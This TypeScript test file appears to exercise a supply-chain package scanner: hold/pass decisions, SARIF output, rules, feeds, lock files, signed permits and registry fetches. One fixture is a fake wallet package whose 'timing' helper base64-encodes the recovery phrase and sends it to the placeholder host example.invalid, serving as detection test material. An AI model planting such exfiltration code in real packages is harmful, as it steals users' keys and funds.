import { execFileSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parseLock } from '@portcullis/scan';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorOutput } from './output/errorOutput.ts';
import { type ScanOutput, scanOutput } from './output/scanOutput.ts';
import { type LoopbackRegistry, startRegistry } from './scan/testing/loopbackRegistry.ts';
import { type Gatehouse, makeGatehouse } from './testing/gatehouse.ts';
import { type Ran, runPortcullis } from './testing/runPortcullis.ts';

let house: Gatehouse;
let env: Record<string, string> = {};
const run = (...args: string[]): Promise<Ran> => runPortcullis(house.directory, args, env);
const scan = async (...args: string[]): Promise<{ exit: number | null; value: ScanOutput }> => {
  const { exit, out, err } = await run('scan', ...args, '--json');
  expect(err).not.toContain('Error');
  return { exit, value: scanOutput.parse(JSON.parse(out)) };
};

/** A package as `npm pack` makes it. */
function pack(name: string, version: string, files: Readonly<Record<string, string>>): void {
  const folder = join(house.directory, `src-${version}`);
  for (const [path, text] of Object.entries({ ...files, 'package.json': JSON.stringify({ name, version }) })) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    house.write(join(`src-${version}`, path), text);
  }
  execFileSync('npm', ['pack', '--silent', '--ignore-scripts', '--pack-destination', house.directory], { cwd: folder });
}

const OPEN = "const { Wallet } = require('ethers');\nexports.open = (words) => Wallet.fromPhrase(words);\n";
/** Harmless: the host is reserved to lead nowhere, and nothing here is ever run. */
const POISONED = {
  'index.js':
    "const { Wallet } = require('ethers');\nconst { note } = require('./lib/timing');\nexports.open = (words) => { note(words); return Wallet.fromPhrase(words); };\n",
  'lib/timing.js':
    "const https = require('https');\nexports.note = (value) => https.request({ host: 'example.invalid', headers: { 'x-request-id': Buffer.from(value).toString('base64') } }).end();\n",
};
const OLD = 'acme-wallet-1.2.3.tgz';
const NEW = 'acme-wallet-1.2.4.tgz';

beforeAll(() => {
  house = makeGatehouse();
  house.write(
    'portcullis.yaml',
    house.read('portcullis.yaml').replace('policies:\n', 'policies:\n  package: {quorum: 2 of board, expires: 1h}\n'),
  );
  pack('@acme/wallet', '1.2.3', { 'index.js': OPEN });
  pack('@acme/wallet', '1.2.4', POISONED);
});
afterAll(() => house.remove());

describe('scan', () => {
  it('holds the update that sends the phrase out, names the way through the files, and passes the one before', async () => {
    const { exit, out } = await run('scan', NEW, '--since', OLD);
    expect(exit).toBe(1);
    expect(out).toMatch(/^HOLD {2}pkg:npm\/%40acme\/wallet@1\.2\.4\nDo not install/);
    expect(out).toMatch(/Compared with pkg:npm\/%40acme\/wallet@1\.2\.3/);
    expect(out).toMatch(/flow\.key-to-network[^]*index\.js:3[^]*lib\/timing\.js:2/);
    const before = await scan(OLD);
    expect([before.exit, before.value.decision, before.value.clean]).toEqual([0, 'pass', true]);
    expect((await scan(NEW, '--since', NEW)).value.decision).toBe('pass');
  });

  it('says how far its judges were cut off', async () => {
    const { value } = await scan(NEW, '--no-cache');
    expect(value.confinement?.denies).toEqual(['fs.read', 'fs.write', 'child', 'worker', 'addon', 'wasi']);
  });

  it('gives the same answer from the cache, of any package once', async () => {
    const args = [NEW, '--since', OLD, '--cache', join(house.directory, 'cache')];
    const [cold, warm] = [await scan(...args), await scan(...args)];
    expect(cold.value.confinement).not.toBeNull();
    expect(warm.value.confinement).toBeNull();
    expect(warm.value.judgements).toEqual(cold.value.judgements);
  });

  it('judges packages together in the order they were given, and sums up', async () => {
    const { exit, value } = await scan(NEW, OLD, 'src-1.2.3');
    expect(exit).toBe(1);
    expect(value.judgements.map(({ subject, decision }) => `${subject} ${decision}`)).toEqual([
      'pkg:npm/%40acme/wallet@1.2.4 hold',
      'pkg:npm/%40acme/wallet@1.2.3 pass',
      'pkg:npm/%40acme/wallet@1.2.3 pass',
    ]);
    expect((await run('scan', NEW, OLD)).out).toContain('2 packages: 1 pass, 0 to review, 1 held.');
  });

  it('writes SARIF to a file beside the report, or to stdout alone', async () => {
    await run('scan', 'src-1.2.4', '--sarif', 'scan.sarif');
    const log = JSON.parse(house.read('scan.sarif')) as {
      runs: { results: { ruleId: string; locations: unknown[] }[] }[];
    };
    expect(log.runs[0]?.results[0]).toMatchObject({
      ruleId: 'flow.key-to-network',
      locations: [{ physicalLocation: { artifactLocation: { uri: 'src-1.2.4/lib/timing.js' } } }],
    });
    const { out } = await run('scan', OLD, '--sarif', '-');
    expect((JSON.parse(out) as { version: string }).version).toBe('2.1.0');
    expect((await run('scan', OLD, '--sarif', '-', '--json')).exit).toBe(2);
    expect((await run('scan', OLD, '--sarif', 'beside.sarif', '--json')).exit).toBe(0);
  });

  it('applies rules of the user, whose decision counts, and refuses broken ones before it looks', async () => {
    house.write(
      'rules.yaml',
      'rules:\n  - {id: no-ethers, message: We do not use it., severity: low, decision: review, literal: "require(\'ethers\')"}\n',
    );
    const { exit, value } = await scan(OLD, '--rules', 'rules.yaml');
    expect([exit, value.decision]).toEqual([0, 'review']);
    expect(value.judgements[0]?.findings[0]).toMatchObject({
      rule: 'user.rule',
      why: 'Your rule no-ethers: We do not use it.',
    });
    expect((await run('scan', OLD, '--rules', 'rules.yaml', '--fail-on', 'review')).exit).toBe(1);
    expect((await run('scan', OLD, '--rules', 'rules.yaml')).out).toContain('--fail-on review ends with 1');
    house.write('broken.yaml', 'rules:\n  - {id: X}\n');
    const broken = await run('scan', 'absent.tgz', '--rules', 'broken.yaml', '--json');
    expect([broken.exit, errorOutput.parse(JSON.parse(broken.out)).error.code]).toEqual([2, 'bad-rule']);
  });

  it('holds a version that a feed knows as bad', async () => {
    house.write(
      'feed.json',
      JSON.stringify({
        id: 'MAL-2026-1',
        summary: 'steals',
        affected: [{ package: { ecosystem: 'npm', name: '@acme/wallet' }, versions: ['1.2.3'] }],
      }),
    );
    const { exit, value } = await scan(OLD, '--feed', 'feed.json');
    expect([exit, value.judgements[0]?.findings[0]?.rule]).toEqual([1, 'trust.known-bad']);
  });

  it('approves in a lock file what is not held, and holds what the lock does not allow', async () => {
    expect((await run('scan', NEW, '--write-lock', '--lock', 'own.lock')).out).toContain(
      'Not approved, because it is held',
    );
    expect(Object.keys(parseLock(house.read('own.lock')).packages)).toEqual([]);
    expect((await scan(OLD, '--lock', 'own.lock')).value.judgements[0]?.findings[0]?.rule).toBe('change.not-in-lock');
    expect((await run('scan', OLD, '--write-lock', '--lock', 'own.lock')).out).toContain('own.lock: 1 approved.');
    expect((await scan(OLD, '--lock', 'own.lock')).exit).toBe(0);
    const { exit, value } = await scan(NEW, '--since', OLD, '--lock', 'own.lock');
    expect(exit).toBe(1);
    expect(value.judgements[0]?.findings.map(({ rule }) => rule)).toContain('change.outside-lock');
  });

  it('lets through what two persons signed, for these bytes and these findings, and still tells of it', async () => {
    const [held] = (await scan(NEW, '--since', OLD)).value.judgements;
    const rules = [...new Set(held?.findings.filter(({ decision }) => decision !== 'note').map(({ rule }) => rule))];
    const propose = ['propose', 'package', held?.subject ?? '', '--artifact', held?.digest ?? '', '--rule', ...rules];
    const made = await run(...propose, '--as', 'alice', '--out', 'let.json', '--sign', '--key', 'alice', '--yes');
    expect([made.exit, made.err]).toEqual([0, '']);
    const one = await run('scan', NEW, '--since', OLD, '--permit', 'let.json');
    expect([one.exit, one.err]).toEqual([2, expect.stringContaining('needs more persons')]);
    await run('sign', 'let.json', '--key', 'bob', '--yes');
    const { exit, value } = await scan(NEW, '--since', OLD, '--permit', 'let.json');
    expect([exit, value.decision]).toEqual([0, 'pass']);
    expect(value.judgements[0]?.findings[0]?.permit?.by).toEqual(['alice', 'bob']);
    expect((await run('scan', NEW, '--since', OLD, '--permit', 'let.json')).out).toContain('passed by alice and bob');
    expect(
      (await scan(OLD, '--since', NEW, '--permit', 'let.json')).value.judgements[0]?.findings.some(
        ({ permit }) => permit !== null,
      ),
    ).toBe(false);
  });

  it('says that a file is no package, judges the others, and is not clean', async () => {
    house.write('notes.docx', 'x');
    house.write('liar-1.0.0.tgz', 'no archive');
    const { exit, out, err } = await run('scan', 'notes.docx', OLD, 'liar-1.0.0.tgz', '--json');
    const value = scanOutput.parse(JSON.parse(out));
    expect([exit, value.clean, value.judgements.length]).toEqual([2, false, 1]);
    expect(value.failed.map(({ target, code }) => `${target} ${code}`)).toEqual([
      'notes.docx unknown-format',
      'liar-1.0.0.tgz broken-archive',
    ]);
    expect(err).toContain('notes.docx was not judged.');
  });

  it.each([
    ['what is not there', ['absent.tgz'], 'bad-target'],
    ['a comparison with what is not there', [OLD, '--since', 'absent.tgz'], 'bad-usage'],
    ['a package URL offline', ['pkg:npm/a@1.0.0', '--offline'], 'bad-target'],
    ['a lock file that is none', [OLD, '--lock', 'portcullis.yaml'], 'bad-lock'],
    ['a feed that is none', [OLD, '--feed', 'portcullis.yaml'], 'bad-feed'],
    ['YARA without rules', [OLD, '--yara', 'yara'], 'bad-usage'],
    ['a permit that is none', [OLD, '--permit', 'portcullis.yaml'], 'unreadable-file'],
  ])('refuses %s', async (_, args, code) => {
    const { exit, out } = await run('scan', ...args, '--json');
    expect([exit, errorOutput.parse(JSON.parse(out)).error.code]).toEqual([2, code]);
  });
});

describe('scan of a package URL', () => {
  let registry: LoopbackRegistry;
  beforeAll(async () => {
    const { readFileSync } = await import('node:fs');
    const served = (version: string): Parameters<typeof startRegistry>[0][number] => ({
      name: '@acme/wallet',
      version,
      file: `wallet-${version}.tgz`,
      bytes: readFileSync(join(house.directory, `acme-wallet-${version}.tgz`)),
    });
    registry = await startRegistry([served('1.2.3'), served('1.2.4')], []);
    house.write('.npmrc', `registry=${registry.npm}\n${registry.npm.replace('http:', '')}:_authToken=s3cret\n`);
    env = {};
  });
  afterAll(async () => await registry.close());

  it('fetches both versions from the registry of the machine, and never prints its secrets', async () => {
    const { exit, out, err } = await run('scan', 'pkg:npm/%40acme/wallet@1.2.4', '--since', 'previous');
    expect(exit).toBe(1);
    expect(out).toMatch(
      /^HOLD {2}pkg:npm\/%40acme\/wallet@1\.2\.4\n[^]*Compared with pkg:npm\/%40acme\/wallet@1\.2\.3/,
    );
    expect(registry.asked.every(({ authorization }) => authorization === 'Bearer s3cret')).toBe(true);
    expect(out + err).not.toContain('s3cret');
  });

  it('tells what the registry does not have, with exit code 2, and that it does not answer, with 3', async () => {
    expect((await run('scan', 'pkg:npm/absent@1.0.0')).exit).toBe(2);
    registry.special.set('/npm/absent', { status: 503 });
    expect((await run('scan', 'pkg:npm/absent@1.0.0')).exit).toBe(3);
  });
});
